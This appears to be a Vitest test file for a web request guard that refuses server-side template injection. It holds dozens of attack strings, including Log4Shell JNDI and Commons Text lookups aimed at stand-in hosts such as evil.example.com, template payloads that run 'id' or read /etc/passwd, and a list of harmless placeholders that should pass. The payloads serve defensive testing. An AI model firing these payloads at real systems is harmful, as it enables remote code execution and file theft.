// What stands between a template's marks: expressions that no placeholder is are refused wherever they stand, placeholders
// of mails, pipelines and manifests are not.

import { describe, expect, test } from 'vitest'

import { refusing } from '../corpora/guard.ts'

const isRefused = refusing({})

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'arithmetic on literals': [
    '{{7**7}}',
    '{{{7*7}}}',
    '{{0x10*2}}',
    '{{ 7 | times: 7 }}',
    '{{7*-7}}',
    'a {5*5} b',
    '{=7+7}',
    "{'7'*7}",
    '!{7*7}',
    '[=7*7]',
    '{!! 7**2 !!}',
  ],
  'constants that anybody can reckon': [
    '{{1==1}}',
    "{{'a' != 'b'}}",
    '{{true && false}}',
    '{{ !true }}',
    '${7?string}',
    '${"a"?upper_case}',
    '{{document.cookie}}',
    '{math equation="7*7"}',
    '%{#a=1}',
    '{% include request.GET.x %}',
  ],
  'lookups of Log4j and Commons Text (CVE-2022-42889)': [
    'x ${file:UTF-8:/etc/passwd} y',
    'x ${dns:evil.example.com}',
    '${url:iso-8859-1:http://evil.example/}',
    'x ${script:javascript:${env:A}}',
    '${xml:/tmp/a.xml:/b}',
    '${properties:/tmp/a.properties::b}',
    '${const:java.awt.event.KeyEvent.VK_ESCAPE}',
    '${localhost:name}',
  ],
  Twig: ["{% set a = 'system' %}{{['id']|filter(a)}}"],
  SeaCMS: ['{if-A:printf(md5(1))}{endif-A}', '{if:phpinfo()}{end if}'],
  Freemarker: ['[="freemarker.template.utility.Execute"?new()("id")]', 'x ${.version}', '[=.globals?keys]'],
  Velocity: [
    'x $x.getClass().getClassLoader()',
    '$!class.inspect("java.lang.System")',
    '#macro(x)$y.class.forName("a")#end',
    '#{set}($x=7*7)${x}',
  ],
  'Spring, OGNL': [
    "${environment.getProperty('x')}",
    "#{systemEnvironment['PATH']}",
    '%{#session.user}',
    "${(#ct=#request['struts.valueStack'].context)}",
  ],
  Mako: ['<%include file="/etc/passwd"/>', '${dir(context)}'],
  'Ruby, Node': [
    '<%= Object.const_get(:Kernel) %>',
    '#{ObjectSpace.each_object(Class).to_a}',
    '<%= __dirname %>',
    '<%== ENV.to_h %>',
  ],
  'Jinja, Django, Tornado': [
    "{{config.from_pyfile('/etc/passwd')}}",
    '{{(lipsum|attr(request.args.a))}}',
    '{% include /etc/passwd %}',
    '{% extends "http://evil.example/x" %}',
    '{% filter force_escape %}{% debug %}{% endfilter %}',
    '{{locals()}}',
    '{{_context|keys|join}}',
  ],
  'Go, Laravel, Smarty, Razor': [
    '{{.System "id"}}',
    '{{call .x "id"}}',
    '{{printf "%#v" .}}',
    "{{ DB::select('select 1') }}",
    '{{ `id` }}',
    '{"id"|passthru}',
    "{'id'|system}",
    "{include '/etc/passwd'}",
    '@{ Response.Write(Server.MapPath(".")); }',
  ],
  'names that are put together, or handed over': [
    "{{ x['__cla'~'ss__'] }}",
    "{{ x['con' + 'structor'] }}",
    '{{ "{}".format(config) }}',
    "{{ globalThis?.['process'] }}",
    "{{ url_for('x')['a'] }}",
  ],
  'objects of Mako, functions of PHP, packages of Node': [
    '${self.template.module}',
    '${system(id)}',
    "${require('execa')('id')}",
    "<%= require('a').b('id') %>",
  ],
  'fields that are called, and engines that have no fields': [
    "{{ x .constructor .constructor('a')() }}",
    '{{ .Process.Exec "id" }}',
    '{{2021-12-31*2}}',
    "{{ get ($on.constructor('a'))() }}",
    '{{ lookup (lookup this "constructor") "name" }}',
  ],
  'lookups within the name of another one (CVE-2021-44228)': [
    '${${x:-${lower:j}ndi}:ldap://e.example/a}',
    '${${env:X:-j}ndi${env:X:-:}rmi://e.example/a}',
  ],
  'numbers between the marks of several engines': ['<%=1%>@*#{1}', '{{1}}${1}#{1}'],
}

/** What documents of engines show: it asks for one only where nothing stands around it. */
const WHOLE: readonly string[] = [
  ' ${env:PATH} ',
  '${ctx:loginId}',
  "{{'a'|upper}}",
  '{{ [1,2]|join }}',
  '{{7|abs}}',
  '{{print 1}}',
  '{{len "abc"}}',
  '{{exec "id"}}',
]

const HARMLESS: readonly string[] = [
  'as it says [here]({% post_url 2018-01-19-forums %}).',
  '{% post_link hexo-3-8-released %}',
  'Instead of {include ...} tags',
  '${env:HOME}/bin',
  '${ENV:-development}',
  'Set ${env:PATH} before you start.',
  '{{ user.name }} has invited you to {{ team.name | capitalize }}',
  '{{#if items}}{{#each items}}<li>{{this.title}}</li>{{/each}}{{/if}}',
  "{{ 'now' | date: '%Y' }} {{ price | times: 2 }}",
  '{{ .Values.image.repository }}:{{ .Values.image.tag | default "latest" }}',
  '{{ printf "%s-%s" .Release.Name .Chart.Name | trunc 63 }}',
  '${{ github.event.pull_request.head.sha }}',
  '{{=it.name}} {{inputs.parameters.message}} {{workflow.name}}',
  '<%= user.first_name %>, <%= link_to "x", root_path %>',
  '{% if customer.name %}Hello {{ customer.name }}{% endif %}',
  '{{- $pass := .password | default "" }}{{ include "x" (dict "context" .context "config" .Values.config) }}',
  '{{ .eval }}-{{ .Release.Name }}',
  'Pod {{ $labels.namespace }}/{{ $labels.config }} is waiting',
  'path: ${{ steps.npm-cache-dir.outputs.dir }}',
  '<%= frame "next", src: url_for(params.to_h.merge(page: items.next, format: :turbo)) %>',
  'max(x{environment=~"$environment",database!~"admin|config|system|local"})',
  '{{ ", ".join(names) }} {{ "%s items".format(count) }}',
  'go-template={{index .metadata.labels "app.kubernetes.io/version"}}',
  '{{- .Values.config | toYaml | nindent 4 }}',
  'scan {{10.0.0.0/24}} {{192.168.0.1-254}} {{path/to/file.env}} --date {{2021-12-31T00:00:00}}',
  '${XDG_CONFIG_HOME:-${HOME:-/root}}/x ${UNDEFINED_KEY:-${UNDEFINED_KEY}}',
  'syslog:{{ app }}',
  'console.log(`One of ${constructor.name}, ${globals.flag}`)',
  'for (const ${1:item} of ${2:items}) { ${3} }',
  'Hello {{1}}, your code is {{2}}',
  '{{1}}',
  "{{ 'general.search' | t }}",
  '{{ "now" | date: "%Y" }}',
  "{{ 'style.css' | asset_url }}",
  'Liquid has {{ "Parker Moore" | upcase }} for it',
  '{{ print .Values.name }} {{ len .items }}',
  'x^{1/2} + y^{2-n} and a_{i+1}',
  '{"a":"b","c":{"d":[1,2]}}',
  '$\\{name\\} ${HOME}/bin ${PATH:-/usr/bin}',
  '@media (min-width: 10px) { a { color: red } }',
]

const PLACES = ['query', 'json', 'form', 'multipart', 'xml', 'cookie']

describe('an expression that no placeholder is', () => {
  const rows = Object.entries(ATTACKS).flatMap(([engine, list]) => list.map((text) => ({ engine, text })))
  test.each(rows)('$engine: $text', ({ text }) => {
    expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
    expect(isRefused('json', `Hello, ${text}`)).toBe(true)
  })
})

test.each([
  '{% print 7-7-7 %}',
  '{% set x = 7-7-aa %}',
  "{% print bb-7-7|attr('__class__') %}",
  '{% if 9-8-7 == x %}',
  '{include ../../x}',
])('a file’s name excuses no reckoning and no filter: %s', (text) => {
  expect(isRefused('json', text)).toBe(true)
})

test.each(WHOLE)('a constant by itself, whose answer is known: %s', (text) => {
  expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
})

test.each(HARMLESS)('a placeholder is none: %s', (text) => {
  expect(['json', 'form'].filter((place) => isRefused(place, text))).toEqual([])
})
